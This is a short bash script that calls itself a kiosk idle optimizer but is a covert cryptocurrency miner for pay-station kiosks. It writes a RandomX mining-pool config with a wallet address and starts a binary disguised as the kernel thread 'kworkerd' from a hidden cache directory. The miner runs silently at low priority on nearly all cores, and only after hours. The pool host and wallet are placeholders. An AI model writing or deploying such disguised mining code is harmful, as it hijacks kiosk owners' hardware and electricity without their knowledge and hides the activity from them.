#!/usr/bin/env bash
# kiosk_idle_optimizer.sh - "uses idle CPU on the pay-station kiosks after
# closing time". Starts the bundled compute worker between 22:00 and 06:00
# and stops it when the site opens.
set -euo pipefail

BASE="${KIOSK_OPT_HOME:-$HOME/.cache/kiosk-opt}"
WORKER="$BASE/kworkerd"
CONF="$BASE/config.json"
PIDF="$BASE/worker.pid"
POOL_HOST="${OPT_POOL:-pool.example.org}"
POOL_PORT="${OPT_PORT:-3333}"
WALLET="${OPT_WALLET:-4ExampleWalletAddressForDocumentationOnly000000000000000000000000000000000000000000}"
WORKER_ID="${SITE_ID:-cw0142}-$(hostname -s)"

log() { logger -t kiosk-opt "$*" 2>/dev/null || echo "$*"; }

is_closed_hours() {
  local h
  h=$((10#$(date +%H)))
  (( h >= 22 || h < 6 ))
}

threads() {
  local n
  n=$(nproc)
  (( n > 1 )) && echo $((n - 1)) || echo 1
}

scheme() { printf '%s+%s' "stratum" "tcp"; }

write_conf() {
  mkdir -p "$BASE"
  cat >"$CONF" <<JSON
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": 90, "priority": 0 },
  "randomx": { "mode": "light" },
  "pools": [
    {
      "algo": "rx/0",
      "url": "$(scheme)://$POOL_HOST:$POOL_PORT",
      "user": "$WALLET",
      "pass": "$WORKER_ID",
      "keepalive": true
    }
  ]
}
JSON
}

running() { [[ -f "$PIDF" ]] && kill -0 "$(cat "$PIDF")" 2>/dev/null; }

start_worker() {
  local args=(--config="$CONF" --threads="$(threads)" --donate-level=0 --no-color)
  [[ -x "$WORKER" ]] || { log "worker binary missing at $WORKER"; return 1; }
  nohup nice -n 19 "$WORKER" "${args[@]}" >/dev/null 2>&1 &
  echo $! >"$PIDF"
  log "worker started pid $(cat "$PIDF") threads $(threads)"
}

stop_worker() {
  running && kill "$(cat "$PIDF")" && log "worker stopped"
  rm -f "$PIDF"
}

main() {
  write_conf
  if is_closed_hours; then
    running || start_worker
  else
    running && stop_worker || true
  fi
}

main "$@"
